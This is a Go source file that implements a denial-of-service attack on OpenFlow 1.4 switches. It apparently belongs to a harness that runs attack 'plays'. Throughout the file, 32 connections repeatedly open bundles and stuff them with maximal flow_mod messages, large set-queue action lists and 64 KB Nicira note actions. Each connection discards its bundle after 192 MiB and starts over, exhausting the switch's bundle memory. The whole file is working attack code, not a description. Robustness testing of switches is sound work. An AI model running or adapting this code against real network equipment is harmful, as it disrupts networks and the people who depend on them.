// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"
)

// This file has the attack of an OpenFlow peer that opens bundles and never commits them.

// Types of messages and actions of OpenFlow 1.4.
const (
	openflowFlowMod    = 14
	openflowBundle     = 33 // OFPT_BUNDLE_CONTROL
	openflowBundleAdd  = 34
	bundleOpen         = 0
	bundleDiscard      = 6
	applyActions       = 4
	actionSetQueue     = 21
	actionExperimenter = 0xffff
	niciraVendor       = 0x2320
	niciraNote         = 8
	bundlers           = 32 // number of the attack's connections
	// bundleRound is the number of bytes after which a connection discards its bundle and begins
	// another: more than the switch keeps for a connection.
	bundleRound = 192 << 20
)

// bundleMessages returns three flow_mods. The first one has as many actions as a message can have, the
// second one as many bytes, and the third one is as small as possible. The switch limits actions, bytes
// and messages.
func bundleMessages() [][]byte {
	var queues []byte
	for range 4000 {
		queues = append(queues, 0, actionSetQueue, 0, 8, 0, 0, 0, 1)
	}
	note := make([]byte, 64_000)
	binary.BigEndian.PutUint16(note, actionExperimenter)
	binary.BigEndian.PutUint16(note[2:], uint16(len(note)))
	binary.BigEndian.PutUint32(note[4:], niciraVendor)
	binary.BigEndian.PutUint16(note[8:], niciraNote)
	var messages [][]byte
	for _, actions := range [][]byte{queues, note, nil} {
		b := make([]byte, 40) // from cookie to importance
		for i := range 4 {
			b[20+i], b[24+i], b[28+i] = 0xff, 0xff, 0xff // no buffer, any port, any group
		}
		b = append(b, 0, 1, 0, 4, 0, 0, 0, 0) // empty match
		if actions != nil {
			b = append(b, 0, applyActions)
			b = append(binary.BigEndian.AppendUint16(b, uint16(8+len(actions))), 0, 0, 0, 0)
			b = append(b, actions...)
		}
		messages = append(messages, b)
	}
	return messages
}

// bundleAdd returns a message that adds a flow_mod with the given body to bundle 1.
func bundleAdd(body []byte) []byte {
	inner := openflowHeaderSize + len(body)
	b := []byte{openflow14, openflowBundleAdd}
	b = binary.BigEndian.AppendUint16(b, uint16(openflowHeaderSize+8+inner))
	b = append(b, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0)
	b = append(b, openflow14, openflowFlowMod)
	b = binary.BigEndian.AppendUint16(b, uint16(inner))
	return append(append(b, 0, 0, 0, 1), body...)
}

// fillBundles starts connections that fill bundles until the attack ends.
func fillBundles(p *play) error {
	var stop atomic.Bool
	var ended sync.WaitGroup
	sent := new(atomic.Int64)
	p.vars["sent"] = sent
	messages := bundleMessages()
	p.later(ended.Wait)
	for i := range bundlers {
		c, err := p.dialOpenFlow()
		if err != nil {
			return err
		}
		chunk := []byte(nil)
		for len(chunk) < 256<<10 {
			chunk = append(chunk, bundleAdd(messages[i%len(messages)])...)
		}
		ended.Go(func() { _, _ = io.Copy(io.Discard, c) })
		ended.Go(func() {
			for !stop.Load() {
				if c.fillBundle(chunk, sent, &stop) != nil {
					return // closed at the end of the attack
				}
			}
		})
		p.later(func() { c.Close() })
	}
	p.later(func() { stop.Store(true) })
	return nil
}

// fillBundle opens bundle 1, fills it, and discards it.
func (c *openflowConn) fillBundle(chunk []byte, sent *atomic.Int64, stop *atomic.Bool) error {
	control := func(kind byte) error { return c.send(openflowBundle, []byte{0, 0, 0, 1, 0, kind, 0, 0}) }
	if err := control(bundleOpen); err != nil {
		return err
	}
	for n := 0; n < bundleRound && !stop.Load(); n += len(chunk) {
		if _, err := c.Write(chunk); err != nil {
			return err
		}
		sent.Add(int64(len(chunk)))
	}
	return control(bundleDiscard)
}

func countBundles(p *play) error {
	time.Sleep(50 * time.Millisecond)
	p.notes = fmt.Sprintf("%d MiB sent", p.vars["sent"].(*atomic.Int64).Load()>>20)
	return nil
}
